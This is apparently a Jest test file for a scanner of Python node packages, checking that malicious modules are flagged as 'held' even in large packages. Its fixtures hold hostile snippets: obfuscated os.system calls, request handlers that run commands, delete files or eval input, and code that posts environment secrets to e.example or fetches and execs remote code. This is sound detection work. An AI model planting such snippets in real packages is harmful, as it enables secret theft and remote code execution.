import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { analyseFile, zipOf } from '../support/archives.js';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-large-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Only the interesting functions of a package with as much source as this are followed. */
const FILLER = 'class Plain:\n    def run(self, image): return (image,)\n'.repeat(1000);

/** Returns the most severe level of the findings about a module of a large package. */
async function levelOf(source: string): Promise<string> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf({ '__init__.py': source, 'filler.py': FILLER }));
  return (await analyseFile(path)).findings[0]?.level ?? 'none';
}

/** Functions that take so many steps that not all of them can be followed. */
const BUSY = Array.from(
  { length: 600 },
  (_, index) =>
    `def load_${index}(path):\n    file = open(path)\n${'    path = f(path.a.b(1), file.c[2])\n'.repeat(12)}`,
).join('');

const ROUTE = 'from server import PromptServer\n@PromptServer.instance.routes.post("/a")\nasync def a(request):\n    ';

describe('in a large package, a function of a node that calls os.system is held', () => {
  it.each([
    ['through the dictionary of the module', 'import os as o\n', 'o.__dict__["sys" + "tem"]("a")'],
    ['through vars', 'import os as o\n', 'vars(o)["sys" + "tem"]("a")'],
    ['through __getattribute__', 'import os as o\n', 'object.__getattribute__(o, "sys" + "tem")("a")'],
    ['through attrgetter', 'import os as o, operator\n', 'operator.attrgetter("sys" + "tem")(o)("a")'],
    ['through methodcaller', 'import os as o, operator\n', 'operator.methodcaller("sys" + "tem", "a")(o)'],
    ['through sys.modules', 'import sys\n', 'sys.modules["o" + "s"].__dict__["sys" + "tem"]("a")'],
  ])('%s', async (_way, imports, call) =>
    expect(await levelOf(`${imports}class Node:\n    def run(self):\n        ${call}\n`)).toBe('hold'),
  );
});

describe('in a large package, a request handler is held that', () => {
  it.each([
    ['runs a command', 'import os\n', 'os.system((await request.json())["c"])'],
    ['hides that it runs a command', 'import os as o\n', 'o.__dict__["sys" + "tem"]((await request.json())["c"])'],
    ['deletes whatever file a request names', 'import shutil\n', 'shutil.rmtree(request.query["a"])'],
  ])('%s', async (_what, imports, call) => expect(await levelOf(`${imports}${ROUTE}${call}\n`)).toBe('hold'));
});

it('in a large package, a node that replaces a method of the host to send data is held', async () => {
  const put = 'def put(self, item):\n    requests.post("https://e.example", json=str(item))\n';
  const node = 'class Node:\n    def run(self):\n        execution.PromptQueue.put = put\n';
  expect(await levelOf(`import execution, requests\n${put}${node}`)).toBe('hold');
});

describe('in a package with more functions than can be followed, code is held that', () => {
  it.each([
    [
      'passes secrets from one function to another',
      'import os, requests\ndef collect():\n    return dict(os.environ)\ndef send(values):\n    requests.post("https://e.example", json=values)\nclass Node:\n    def run(self):\n        send(collect())\n',
    ],
    [
      'evaluates what a request has',
      `def calculate(text):\n    return eval(text)\n${ROUTE}return calculate((await request.json())["a"])\n`,
    ],
    [
      'runs the result of another method',
      'import requests\nclass Node:\n    def __init__(self):\n        self.client = requests\n    def fetch(self):\n        return self.client.get("https://e.example/a").text\n    def run(self):\n        exec(self.fetch())\n',
    ],
  ])('%s', async (_what, source) => expect(await levelOf(`${BUSY}${source}`)).toBe('hold'));
});

it('plain functions of a large package are no findings', async () => {
  expect(await levelOf('class Node:\n    def run(self, image): return (image,)\n')).toBe('none');
});

describe('in a large package, a function is held that runs what a request names', () => {
  it('through a function and a module that are named in the function around it', async () => {
    const register = `from server import PromptServer\ndef register(routes):\n    import subprocess as s\n    def go(command): return s.Popen(command)\n    @routes.post("/a")\n    async def a(request):\n        go((await request.json())["a"])\nregister(PromptServer.instance.routes)\n`;
    expect(await levelOf(register)).toBe('hold');
  });

  it('through a global name that another function sets', async () => {
    const handler = `RUN = None\n${ROUTE}RUN((await request.json())["a"])\n`;
    const prepare = 'def prepare(folder):\n    global RUN\n    from os import system\n    RUN = system\n';
    expect(await levelOf(handler + prepare)).toBe('hold');
  });
});
